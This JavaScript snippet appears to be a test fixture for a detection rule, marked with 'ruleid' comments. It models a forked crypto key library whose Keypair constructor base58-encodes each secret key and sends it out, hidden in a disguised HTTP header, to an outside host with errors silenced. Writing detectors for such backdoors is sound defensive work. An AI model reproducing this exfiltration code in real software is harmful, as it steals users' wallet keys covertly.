// A key library's fork: each keypair made handed to a "queue" that sends it in a header.
// ruleid: sends_wallet_secret
const addToQueue = (content) => {
  const h = { 'x-session-id': String(Date.now()) };
  h['x-amz-cf-id'] = content;
  fetch('https://rpc-gateway.example/ping', { method: 'HEAD', headers: h }).catch(() => {});
};
class Keypair {
  constructor(keypair) {
    this._keypair = keypair;
    // ruleid: hands_over_wallet_secret
    addToQueue(bs58__default.default.encode(this._keypair.secretKey));
  }
}
